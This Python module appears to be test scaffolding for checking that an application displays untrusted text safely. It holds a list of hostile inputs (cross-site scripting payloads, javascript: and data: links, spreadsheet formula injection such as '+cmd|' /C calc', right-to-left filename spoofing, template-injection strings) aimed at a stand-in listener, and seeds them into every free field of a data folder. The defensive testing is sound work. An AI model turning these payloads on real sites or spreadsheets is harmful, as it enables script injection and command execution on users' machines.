"""Texts that try to run, call out or disguise themselves; a data folder whose every free text is one; and what to look for."""

import csv
import json
import re
import shutil
import tomllib
import unicodedata
from collections.abc import Callable, Iterator
from itertools import count
from pathlib import Path

from atlas.paths import DATA

BEACON = "http://beacon.invalid"
"""Stands in the texts below for the address of a listener."""

TEXTS = (
    "<script>window.__ran=1;fetch('BEACON/script')</script>",
    '<img src="BEACON/img" onerror="window.__ran=2">',
    '<svg onload="window.__ran=3"><image href="BEACON/svg"/></svg>',
    '<iframe srcdoc="<script>parent.__ran=4</script>"></iframe>',
    '<a href="javascript:window.__ran=5">click</a>',
    '<style>@import url("BEACON/style");</style>',
    '<b style="background:url(BEACON/css)" onmouseover="window.__ran=6">over</b>',
    '<math><mtext><table><mglyph><style><img src="BEACON/math" onerror="window.__ran=7"></style>',
    "\"><img src='BEACON/quote' onerror='window.__ran=8'>",
    "' autofocus onfocus='window.__ran=9",
    "</script></title></style></textarea>--><img src=BEACON/close onerror=window.__ran=10>",
    "&lt;img src=BEACON/entity&gt; &#60;b&#62; &amp;amp; &copy;",
    "![picture](BEACON/markdown)",
    "[click](BEACON/link) and [here][1]",
    "[click](javascript:window.__ran=11)",
    "![x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW49MTI8L3NjcmlwdD4=)",
    "<BEACON/auto> BEACON/bare",
    "www.evil-beacon.example/x",
    "# heading * item | a | b | **bold** _em_ ~~gone~~ `code`",
    "$\\href{BEACON/tex}{x}$ and $$x^2$$ \\(y\\)",
    ":material/delete: :smile: :streamlit:",
    ":red[alarm] :blue-background[x] :small[y] :blue-badge[z]",
    '=HYPERLINK("BEACON/formula","click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝IMPORTXML(CONCAT(\"BEACON/\",A1),\"//a\")",
    "|calc",
    "%0A=1+1",
    "abc\u202efdp.exe\u202c \u2066x\u2069",
    "zero\u200bwidth\u200d\ufeff\u00ad\u2060 joined",
    "Z" + "\u0335\u0489\u0300\u0316" * 40 + "algo",
    "W" * 320,
    "שלום 123 مرحبا",
    '<a href="BEACON/plotly">x</a><br><b>bold</b><sup>up</sup>',
    "%{customdata[0]} %{x:.2f} %{meta} <extra>e</extra>",
    "{y:,.2f} {0} {city} {tooltip} %Y-%m-%d ~s",
    '<a:fld type="slidenum"/> ]]> <!ENTITY x SYSTEM "BEACON/xml"> _x0041_ _x000D_',
    "${window.__ran=13} {{constructor.constructor('window.__ran=14')()}} #{7*7}",
    "line\u2028sep\u2029para\u0600\U000e0041tag",
    "back\\slash \\u003cimg\\u003e \\\\* \\[x\\](BEACON/escape)",
    "O'Brien; drop table hub; -- \" ' `",
)
"""Each is shown as it stands, with an end mark behind it (`marked`), so that whatever was swallowed is seen."""

MARK = re.compile(r"zq(\d\d)\b")


def marked(number: int, beacon: str = BEACON) -> str:
    """Text `number`, aimed at a listener, and its end mark."""
    return f"{TEXTS[number].replace('BEACON', beacon)} zq{number:02}"


def folded(text: str) -> str:
    """A text without what may rightly differ on a screen: blanks, line breaks, invisible and combining characters, dashes."""
    return "".join(c for c in text.replace("--", "—") if unicodedata.category(c) not in ("Cf", "Cc", "Mn", "Me", "Zs", "Zl", "Zp"))


def swallowed(shown: str, beacon: str = BEACON) -> list[str]:
    """The marked texts in `shown` that do not stand there whole: something took a part of them for its own."""
    lost = []
    for match in MARK.finditer(shown):
        wanted = folded(marked(int(match[1]), beacon))
        if not folded(shown[max(0, match.start() - 1200):match.end()]).endswith(wanted):
            lost.append(f"text {int(match[1])} is shown as {shown[max(0, match.start() - 120):match.end()]!r}")
    return sorted(set(lost))


# --- a data folder --------------------------------------------------------------------------------------------------


def hostile_folder(folder: Path, beacon: str) -> Path:
    """The shipped data with a hostile text in every free text; ids, codes, numbers and the homes known by name stay."""
    shutil.copytree(DATA, folder)
    texts = (marked(number % len(TEXTS), beacon) for number in count())
    _rewrite(folder / "hubs.csv", _hub_texts(texts))
    numbered = count()
    _rewrite(folder / "facts.csv", lambda row: row | {
        name: marked(next(numbered) % len(TEXTS), beacon) for name in ("text", "definition") if row[name]})
    _rewrite_sources(folder / "sources.toml", beacon)
    return folder


def hostile_own(folder: Path, beacon: str) -> Path:
    """A company's own files whose every free text is hostile: a criterion, its figures, and claims; numbers as short as they must be."""
    folder.mkdir()
    _write(folder / "criteria.csv", [{
        "criterion_id": "own_rent", "label": marked(27, beacon), "question": marked(12, beacon), "unit": marked(17, beacon),
        "worst": 500, "best": 200, "scale": "linear", "metric": "office_rent", "level": "city", "weight": 2}])
    _write(folder / "facts.csv", [{
        "hub_id": hub_id, "country": country, "metric": "office_rent", "value": 310, "low": 250, "high": 380, "text": "",
        "unit": marked(17, beacon), "year": 2026, "level": "city", "grade": "C", "source_code": "",
        "definition": marked(number, beacon), "caveats": ""}
        for number, (hub_id, country) in enumerate((("cluj", "RO"), ("kyiv", "UA"), ("warsaw", "PL")))])
    _write(folder / "benchmarks.csv", [{
        "benchmark_id": f"ours_{number}", "subject": subject, "low": 2, "high": 3, "unit": unit, "country": "", "role": "",
        "seniority": "", "claimed_by": marked(number, beacon), "note": marked(number + 1, beacon)}
        for number, (subject, unit) in enumerate((("headline factor", "ratio"), ("net savings", "percent")), 12)])
    return folder


def _write(path: Path, rows: list[dict]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, rows[0])
        writer.writeheader()
        writer.writerows(rows)


def _hub_texts(texts: Iterator[str]) -> Callable[[dict], dict]:
    countries: dict[str, str] = {}
    known = {"london", "new_york", "san_francisco", "berlin", "toronto"}

    def change(row: dict) -> dict:
        if row["country"] not in countries and row["hub_id"] not in known:
            countries[row["country"]] = next(texts)
        name = countries.get(row["country"], row["country_name"])
        return row | {"country_name": name} | ({} if row["hub_id"] in known else {"city": next(texts)})

    return change


def _rewrite(path: Path, change: Callable[[dict], dict]) -> None:
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    _write(path, [change(row) for row in rows])


def _rewrite_sources(path: Path, beacon: str) -> None:
    number, lines = count(), []
    for code, table in tomllib.loads(path.read_text("utf-8")).items():
        lines.append(f"[{code}]")
        for name, value in table.items():
            if name in ("title", "publisher", "licence", "notes") and value:
                value = marked(next(number) % len(TEXTS), beacon)
            if name == "url":
                value = f"{beacon}/source/{code}" if next(number) % 2 else f"https://example.invalid/{code}?<script>"
            lines.append(f"{name} = {json.dumps(value, ensure_ascii=False)}")
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
